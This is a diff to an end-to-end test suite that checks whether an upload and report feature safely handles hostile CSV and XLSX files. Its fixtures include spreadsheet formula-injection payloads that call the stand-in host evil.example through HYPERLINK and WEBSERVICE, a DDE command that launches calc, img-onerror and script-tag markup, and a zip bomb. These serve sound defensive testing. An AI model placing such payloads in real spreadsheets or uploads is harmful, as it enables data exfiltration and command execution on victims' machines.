@@ -45,6 +45,34 @@ const manyEntries = (): Uint8Array =>
 const formulas = `A1_COUNTRY;"=HYPERLINK(""http://evil.example"";""x"")";@SUM(1)\r\nFI;"=cmd|' /C calc'!A0";+1\r\n`;
 const markup = '<img src=x onerror=alert(1)>';
 
+const escaped = (text: string) =>
+  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
+const textCell = (text: string) => `<c t="inlineStr"><is><t>${escaped(text)}</t></is></c>`;
+const formulaCell = (formula: string, value: string) =>
+  `<c t="str"><f>${escaped(formula)}</f><v>${escaped(value)}</v></c>`;
+const spreadsheet = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const parts = 'http://schemas.openxmlformats.org/package/2006';
+/** A whole workbook whose headings are markup and formulas, and whose cells are computed by formulas. */
+const formulaWorkbook = (): Uint8Array =>
+  zipSync({
+    '[Content_Types].xml': strToU8(
+      `<Types xmlns="${parts}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${kinds.xlsx}.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
+    ),
+    '_rels/.rels': strToU8(
+      `<Relationships xmlns="${parts}/relationships"><Relationship Id="r1" Type="${relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    ),
+    'xl/_rels/workbook.xml.rels': strToU8(
+      `<Relationships xmlns="${parts}/relationships"><Relationship Id="r1" Type="${relationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    ),
+    'xl/workbook.xml': strToU8(
+      `<workbook xmlns="${spreadsheet}" xmlns:r="${relationships}"><sheets><sheet name="&lt;b&gt;" sheetId="1" r:id="r1"/></sheets></workbook>`,
+    ),
+    'xl/worksheets/sheet1.xml': strToU8(
+      `<worksheet xmlns="${spreadsheet}"><sheetData><row r="1">${['A1_COUNTRY', markup, '=HYPERLINK("http://evil.example";"x")', '@SUM(1)'].map(textCell).join('')}</row><row r="2">${formulaCell('HYPERLINK("http://evil.example","=1+1")', '=1+1')}${formulaCell('WEBSERVICE("http://evil.example")', markup)}${formulaCell('1+1', '2')}${formulaCell('"+"&"1"', '+1')}</row></sheetData></worksheet>`,
+    ),
+  });
+
 describe('a hostile file', () => {
   test.each([
     ['a bomb of high ratio', bomb, 'xlsx'],
@@ -52,6 +80,7 @@ describe('a hostile file', () => {
     ['NUL bytes', (): Content => `A1_COUNTRY;B\0\r\n\0FI;\0\r\n${'\0'.repeat(5000)}`, 'csv'],
     ['a million columns', (): Content => `${'x;'.repeat(1_000_000)}\r\n${'1;'.repeat(1_000_000)}\r\n`, 'csv'],
     ['formulas in cells and headings', (): Content => formulas, 'csv'],
+    ['formulas and markup in a workbook', formulaWorkbook, 'xlsx'],
     [
       'markup in headings',
       (): Content => `${markup};A1_COUNTRY\r\n"<script>alert(1)</script>";FI\r\n`,
@@ -66,15 +95,23 @@ describe('a hostile file', () => {
     await page.context().close();
   });
 
-  test('with formulas gives a report that a spreadsheet does not run', async () => {
-    const { page } = await partners.enter();
-    await sendHostile(page, formulas);
-    const answer = await page.request.get(`/api/v1${new URL(page.url()).pathname.slice(3)}/report.csv`);
-    expect(answer.ok()).toBe(true);
-    const cells = (await answer.text()).split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
-    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
-    await page.context().close();
-  });
+  test.each([
+    ['csv', (): Content => formulas],
+    ['xlsx', formulaWorkbook],
+  ] as const)(
+    'with formulas in %s gives a report that a spreadsheet does not run',
+    async (ending, content) => {
+      const { page } = await partners.enter();
+      await sendHostile(page, content(), ending);
+      await page.locator('#columns summary').click();
+      expect(await page.locator('#columns').innerText()).toContain('HYPERLINK');
+      const answer = await page.request.get(`/api/v1${new URL(page.url()).pathname.slice(3)}/report.csv`);
+      expect(answer.ok()).toBe(true);
+      const cells = (await answer.text()).split(/[,\r\n]+/).map((cell) => cell.replace(/^"/, ''));
+      expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
+      await page.context().close();
+    },
+  );
 
   test('shows its markup as text before and after it is sent', async () => {
     const { page, complaints } = await partners.enter();
